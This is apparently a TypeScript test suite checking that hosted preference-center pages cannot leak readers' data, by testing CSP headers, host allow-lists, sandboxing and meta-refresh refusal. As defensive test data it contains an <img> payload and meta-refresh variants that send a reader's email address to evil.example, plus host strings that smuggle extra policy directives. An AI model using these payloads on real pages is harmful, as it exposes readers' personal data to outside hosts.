/*
 * What the author of a page can learn about its readers: nothing, unless the workspace allows the
 * host that would be told. The policy is followed in a browser by
 * test/preference-centers/browser/preference-center-browser.test.ts.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { startServer, type TestWorkspace } from "../../harness.ts";
import {
  createCenter,
  emptyWorkspace,
  openPage,
  PATH,
  pageOf,
} from "../../preference-center-calls.ts";

const server = await startServer();

const LEAK = `<img src="https://evil.example/?{{\${email_address} | url_encode}}" alt="">`;

const workspaceWith = (settings: object): Promise<TestWorkspace> =>
  emptyWorkspace(server, {
    settings: { rate_limits: { "preference_center.update": "off" }, ...settings },
  });

/** The sources of a kind in a policy. */
const sourcesIn = (policy: string | null, kind: string): string[] =>
  (policy ?? "")
    .split(";")
    .map((part) => part.trim().split(" "))
    .find(([name]) => name === kind)
    ?.slice(1) ?? [];

async function policyOf(workspace: TestWorkspace): Promise<string> {
  const id = await createCenter(workspace, { preference_center_page_html: LEAK });
  await workspace.track({ attributes: [{ external_id: "ada", email: "ada@example.com" }] });
  const { status, headers } = await openPage(server, await pageOf(workspace, id));
  assert.equal(status, 200);
  return headers.get("content-security-policy") ?? "";
}

describe("the hosts of pictures and fonts", () => {
  test("a page loads pictures and fonts from no other host by default", async () => {
    const policy = await policyOf(await workspaceWith({}));
    assert.deepEqual(sourcesIn(policy, "img-src"), ["'self'", "data:"]);
    assert.deepEqual(sourcesIn(policy, "font-src"), ["data:"]);
    assert.deepEqual(sourcesIn(policy, "default-src"), ["'none'"]);
    assert.doesNotMatch(policy, /https?:|\*/);
  });

  test("a page loads pictures from the host of the logo and from page_image_hosts, over https", async () => {
    const workspace = await workspaceWith({
      brand: { logo_url: "https://logo.example:8443/a.png" },
      page_image_hosts: ["cdn.acme.example", "*.images.example:444"],
    });
    const policy = await policyOf(workspace);
    const hosts = [
      "https://cdn.acme.example",
      "https://*.images.example:444",
      "https://logo.example:8443",
    ];
    assert.deepEqual(sourcesIn(policy, "img-src"), ["'self'", "data:", ...hosts]);
    assert.deepEqual(sourcesIn(policy, "font-src"), ["data:", ...hosts]);
  });

  test("page_image_hosts may allow every host, and a change of it holds with the next view", async () => {
    const workspace = await workspaceWith({ page_image_hosts: ["*"] });
    const id = await createCenter(workspace, { preference_center_page_html: LEAK });
    await workspace.track({ attributes: [{ external_id: "ada" }] });
    const path = await pageOf(workspace, id);
    const images = async () => {
      const { headers } = await openPage(server, path);
      return sourcesIn(headers.get("content-security-policy"), "img-src");
    };
    assert.deepEqual(await images(), ["'self'", "data:", "https:"]);
    await server.admin("PUT", `/admin/v1/workspaces/${workspace.name}/settings`, {});
    assert.deepEqual(await images(), ["'self'", "data:"]);
  });

  test("a host that is none, or would change the policy of a page, is refused", async () => {
    const workspace = await workspaceWith({});
    const path = `/admin/v1/workspaces/${workspace.name}/settings`;
    const hosts = [
      "",
      "a;b",
      "a,b",
      "a b",
      "https://a.example",
      "a.example/x",
      "'self'",
      "a*",
      "A.b",
    ];
    for (const host of hosts) {
      const { status, body } = await server.admin("PUT", path, { page_image_hosts: [host] });
      assert.equal(status, 400, host);
      assert.match(body.message, /page_image_hosts/);
    }
    const logo_url = "https://a.example;img-src*/x.png";
    const { status } = await server.admin("PUT", path, { brand: { logo_url } });
    if (status === 200) assert.doesNotMatch(await policyOf(workspace), /a\.example/);
  });

  test("a picture from a host that the workspace does not allow is accepted with a warning that names it", async () => {
    const workspace = await workspaceWith({ page_image_hosts: ["cdn.acme.example"] });
    const page = `<img src="https://cdn.acme.example/a.png" alt="">
<img src="https://other.example/a.png" alt=""><img src="/logo.png" alt=""><img src="{{ x }}" alt="">`;
    const { body } = await workspace.call<any>("POST", PATH, {
      name: "main",
      preference_center_title: "Choices",
      preference_center_page_html: page,
      confirmation_page_html: "<p>Saved</p>",
    });
    assert.deepEqual(
      body.warnings.map(({ line, message }: any) => [line, /lacks '(.*)'/.exec(message)?.[1]]),
      [[2, "other.example"]],
    );
  });

  test("a key that may write pages cannot change the hosts", async () => {
    const workspace = await workspaceWith({});
    const { status } = await workspace.call(
      "PUT",
      `/admin/v1/workspaces/${workspace.name}/settings`,
      { page_image_hosts: ["evil.example"] },
    );
    assert.equal(status, 401);
  });
});

describe("pages that lead elsewhere", () => {
  test("a page with <meta http-equiv> is refused with its line, in every spelling and alternative", async () => {
    const workspace = await workspaceWith({});
    const evil = `content="0;url=https://evil.example/?{{\${email_address}}}"`;
    for (const meta of [
      `<meta http-equiv="refresh" ${evil}>`,
      `<META HTTP-EQUIV=" Refresh" ${evil}>`,
      `<meta http-equiv=set-cookie content="a=b">`,
      `<meta http-equiv="{{ 'refresh' }}" ${evil}>`,
      `{% if false %}x{% else %}<meta http-equiv="refresh" ${evil}>{% endif %}`,
    ]) {
      const { status, body } = await workspace.call<any>("POST", PATH, {
        name: "main",
        preference_center_title: "Choices",
        preference_center_page_html: `<p>Choices</p>\n${meta}`,
        confirmation_page_html: "<p>Saved</p>",
      });
      assert.equal(status, 400, meta);
      assert.match(body.message, /line 2: a page has no '<meta http-equiv>'/, meta);
    }
  });

  test("<meta http-equiv> that repeats a header is accepted with a warning", async () => {
    const workspace = await workspaceWith({});
    const id = await createCenter(workspace, {
      preference_center_page_html: `<meta http-equiv="Content-Type" content="text/html; charset=utf-8">`,
    });
    assert.ok(id);
  });

  test("a page is shown in a sandbox that runs nothing and follows no refresh, its preview too", async () => {
    const workspace = await workspaceWith({});
    const sandbox = sourcesIn(await policyOf(workspace), "sandbox");
    assert.ok(sandbox.includes("allow-forms"));
    assert.ok(!sandbox.some((each) => /scripts|top-navigation|downloads|modals/.test(each)));
    const path = `/admin/v1/workspaces/${workspace.name}/preference-centers`;
    const { body } = await server.admin("GET", path);
    const { id } = body.preference_centers[0];
    const link = await server.admin("POST", `${path}/${id}/preview-link`, {});
    const { headers } = await openPage(server, new URL(link.body.url).pathname);
    const policy = headers.get("content-security-policy");
    assert.deepEqual(sourcesIn(policy, "sandbox"), sandbox);
    assert.deepEqual(sourcesIn(policy, "img-src"), ["'self'", "data:"]);
  });

  test("a redirect whose host would change the policy of a page is refused", async () => {
    const workspace = await workspaceWith({});
    for (const host of ["shop.example;img-src", "shop.example,evil.example", "user@shop.example"]) {
      const { status, body } = await workspace.call<any>("POST", PATH, {
        name: "main",
        preference_center_title: "Choices",
        preference_center_page_html: "<p>x</p>",
        confirmation_page_html: "<p>x</p>",
        redirect_page_html: `https://${host}/`,
      });
      assert.equal(status, 400, host);
      assert.match(body.message, /'redirect_page_html'/);
    }
  });
});
